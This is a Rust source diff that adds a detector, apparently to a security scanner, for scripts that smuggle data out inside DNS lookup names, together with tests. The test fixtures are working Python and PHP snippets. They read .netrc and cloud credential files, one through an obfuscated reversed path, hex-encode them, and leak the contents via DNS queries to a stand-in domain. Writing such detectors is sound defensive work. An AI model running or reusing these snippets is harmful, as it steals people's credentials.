@@ -2,6 +2,7 @@
 
 use super::flow::{Flow, names};
 use super::lex::{Placed, Token};
+use super::sinks::{Called, inside};
 use super::taint::Taint;
 use super::{Language, Told, words};
 use crate::finding::Severity;
@@ -77,6 +78,27 @@ impl Flow<'_> {
 }
 
 impl Flow<'_> {
+    /// Whether a name is asked for that is put together: its parts travel in the question.
+    pub(super) fn asks_made_name(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
+        if !words::has(words::ASKS, call.path, call.last) {
+            return false;
+        }
+        let rest = tokens.get(call.next..).unwrap_or_default();
+        let is_called = rest.first().is_some_and(|placed| placed.token == Token::Sign('('));
+        let args = if is_called { inside(rest) } else { rest };
+        let is_hole = |text: &str| text.contains("${") && text.contains('.') || text.contains("%s.");
+        let by_text = |placed: &Placed| match &placed.token {
+            Token::Text(text) => is_hole(text) || text.starts_with('.') && text.len() > 3,
+            Token::Name(name) => self.constants.get(name).is_some_and(|value| is_hole(&value.joined(""))),
+            _ => false,
+        };
+        args.iter().any(by_text)
+            || args.windows(2).any(|two| {
+                matches!(two, [sign, name] if matches!(sign.token, Token::Sign('+' | '.')) && matches!(name.token, Token::Name(_)))
+                    && args.iter().any(|placed| matches!(&placed.token, Token::Text(text) if text == "."))
+            })
+    }
+
     /// A secret variable in a script that sends to somebody else than whom it is for.
     fn keys(&self, told: &mut Told<'_, '_>) {
         let tokens = &self.lexed.tokens;
@@ -184,4 +206,35 @@ impl Addresses {
 fn is_key(name: &str) -> bool {
     let is_name = name.len() < 64 && name.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
     is_name && crate::mcp::is_secret(name)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Severity;
+    use crate::interpreted::tests::of;
+
+    #[test]
+    fn credentials_leave_in_names_that_are_asked_for() {
+        for (by, path, text) in [
+            (
+                "python3",
+                "a.py",
+                "import os, pathlib, socket\nZONE = 'z.invalid'\ndef ask(path):\n    text = path.read_bytes().hex()\n    socket.getaddrinfo('%s.%d.%s' % (text, 1, ZONE), 53)\nask(pathlib.Path.home() / ''.join(reversed('edocpeed.')) / ('credentials' + os.extsep + 'json'))\n",
+            ),
+            (
+                "python3",
+                "a.py",
+                "import os, socket\np = os.path.expanduser('~') + os.sep + '.netrc'\nfor part in open(p).read().split():\n    host = f'{part}.z.invalid'\n    socket.gethostbyname(host)\n",
+            ),
+            (
+                "php",
+                "a.php",
+                "<?php\n$t = bin2hex(file_get_contents($_SERVER['HOME'] . DIRECTORY_SEPARATOR . '.netrc'));\nforeach (str_split($t, 60) as $p) { gethostbyname($p . '.z.invalid'); }\n",
+            ),
+        ] {
+            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
+        }
+        let honest = "import os, socket\nif os.path.exists(os.path.expanduser('~/.aws/credentials')):\n    print(socket.gethostbyname('sts.amazonaws.com'), socket.gethostbyname(socket.gethostname()))\n";
+        assert!(of("python3", "a.py", honest).is_none_or(|severity| severity < Severity::Danger));
+    }
 }
